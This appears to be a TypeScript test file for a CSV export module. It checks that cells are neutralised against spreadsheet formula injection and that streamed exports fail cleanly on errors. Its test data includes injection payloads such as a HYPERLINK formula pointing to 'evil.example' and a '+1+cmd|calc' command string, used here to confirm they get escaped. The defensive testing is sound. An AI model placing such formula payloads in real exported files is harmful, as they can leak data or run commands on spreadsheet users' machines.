import http from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { csvCell, neutraliseFormula, streamCsv } from './csv.js';

describe('neutraliseFormula', () => {
  it.each(['=HYPERLINK("http://evil.example","bấm")', '+1+cmd|calc', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1', '=', '-'])('prefixes %j with a quote', (s) => {
    expect(neutraliseFormula(s)).toBe(`'${s}`);
  });

  it.each(['Nguyễn Văn An', '-3', '+4', '1.5', '-0.25', '1e5', '', "'=already"])('leaves %j as it is', (s) => {
    expect(neutraliseFormula(s)).toBe(s);
  });

  it('never lets a cell start with a formula character unless it is a plain number', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const out = neutraliseFormula(s);
        expect(/^[=+\-@\t\r]/.test(out) ? /^[+-]?[\d.]/.test(out) && !Number.isNaN(Number(out)) : true).toBe(true);
        expect(out.endsWith(s)).toBe(true);
      }),
    );
  });
});

describe('csvCell', () => {
  it('neutralises text and quotes what needs quoting', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
    expect(csvCell('@cmd')).toBe(`"'@cmd"`);
    expect(csvCell('a,b')).toBe('"a,b"');
  });

  it('quotes every text cell, so a spreadsheet splitting on ";" (vi-VN Excel) cannot find a formula inside one', () => {
    const cell = csvCell('A;=HYPERLINK("http://x/?"&B2,"Xem")');
    expect(cell).toBe('"A;=HYPERLINK(""http://x/?""&B2,""Xem"")"');
    // Quoted, the whole value is one cell whatever the separator: nothing after the `;` starts a cell.
    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
  });

  it('keeps numbers, dates and JSON as they are', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('"2026-01-02T03:04:05.000Z"');
    expect(csvCell(true)).toBe('true');
    expect(csvCell({ a: '=1' })).toBe('"{""a"":""=1""}"');
  });
});

describe('streamCsv', () => {
  /** Serves one streamed CSV whose pages come from `pages`, and returns what a client received. */
  async function serve(pages: () => AsyncGenerator<unknown[][]>): Promise<{ status?: number; headers?: Headers; text?: string; error?: unknown; logged: unknown[] }> {
    const logged: unknown[] = [];
    const server = http.createServer((req, res) => {
      const r = Object.assign(res, { status: (c: number) => (res.statusCode = c) });
      streamCsv(r, 'x.csv', ['a', 'b'], pages(), (e) => logged.push(e)).catch((e) => {
        // An error before the first byte: the caller answers it as JSON.
        res.statusCode = 500;
        res.setHeader('Content-Type', 'application/json');
        res.end(JSON.stringify({ error: String(e) }));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      // The status line may or may not have reached the client before a cut: either way it must fail.
      const res = await fetch(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`).catch((error: unknown) => ({ error }));
      if ('error' in res) return { error: res.error, logged };
      try {
        return { status: res.status, headers: res.headers, text: Buffer.from(await res.arrayBuffer()).toString('utf8'), logged };
      } catch (error) {
        return { status: res.status, headers: res.headers, error, logged };
      }
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  }

  it('writes the BOM, the header and every page, neutralised', async () => {
    const r = await serve(async function* () {
      yield [['=1', 2]];
      yield [['x', -3]];
    });
    expect(r.status).toBe(200);
    expect(r.headers?.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.text).toBe('\uFEFF"a","b"\r\n"\'=1",2\r\n"x",-3\r\n');
  });

  it('answers an error on the first page before anything is sent', async () => {
    const r = await serve(async function* () {
      throw new Error('bad query');
    });
    expect(r.status).toBe(500);
    expect(r.text).toContain('bad query');
  });

  it('cuts the connection on an error after the first page: no file that looks whole, nothing appended', async () => {
    const r = await serve(async function* () {
      yield [['1', '2']];
      throw new Error('connection lost');
    });
    expect(r.text).toBeUndefined();
    expect(String((r.error as Error).message + (r.error as Error & { cause?: unknown }).cause)).toMatch(/terminated|other side closed|socket|fetch failed/i);
    expect(r.logged).toEqual([new Error('connection lost')]);
  });
});
